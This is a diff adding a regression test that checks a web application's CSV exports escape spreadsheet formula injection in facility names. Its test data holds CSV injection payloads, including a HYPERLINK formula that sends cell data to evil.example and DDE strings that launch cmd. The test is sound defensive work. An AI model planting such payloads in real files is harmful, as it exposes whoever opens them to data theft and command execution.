@@ -708,3 +708,38 @@ async def test_n_a_redirect_target_with_a_tab_or_whitespace_stays_on_the_site(si
         assert r.headers["Location"] == "/alerts?status=all", "a same-site path is kept"
     finally:
         await s.close()
+
+
+async def test_m_no_csv_export_carries_a_live_formula(site: dict[str, object], db: asyncpg.Connection) -> None:
+    """Finding M: a facility named `=HYPERLINK(...)` was exported as a live formula (Excel and WPS run
+    it when the inspector opens the file). Every CSV export now writes such text as text."""
+    import csv
+    import io
+
+    from tests.test_web import A
+
+    evil = {
+        "=": '=HYPERLINK("http://evil.example/?x="&A1,"详情")',
+        "+": "+1+cmd|' /C calc'!A0",
+        "-": "-2+3",
+        "@": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t": "\t=1+1",
+        "\r": "\r=1+1",
+    }
+    url = str(site["url"])
+    auth = {"Authorization": f"Bearer {site['admin']}"}
+    live = ("=", "+", "@", "\t", "\r")  # not "-": a negative number starts so too
+    async with aiohttp.ClientSession(headers=auth) as s:
+        for start, name in evil.items():
+            await db.execute("UPDATE facilities SET name = $2 WHERE id = $1", A.id, name)
+            async with s.get(f"{url}/api/v1/reports?format=csv") as r:
+                assert r.status == 200
+                rows = list(csv.reader(io.StringIO((await r.text()).lstrip("\ufeff"))))
+            [cells] = [row for row in rows if row[0] == A.id]
+            assert cells[1] == "'" + name, (start, cells[1])
+            for row in rows:
+                assert not any(c.startswith(live) for c in row), row
+        async with s.get(f"{url}/api/v1/assessment?format=csv&year=2026") as r:
+            assert r.status == 200, await r.text()
+            for row in csv.reader(io.StringIO((await r.text()).lstrip("\ufeff"))):
+                assert not any(c.startswith(live) for c in row), row
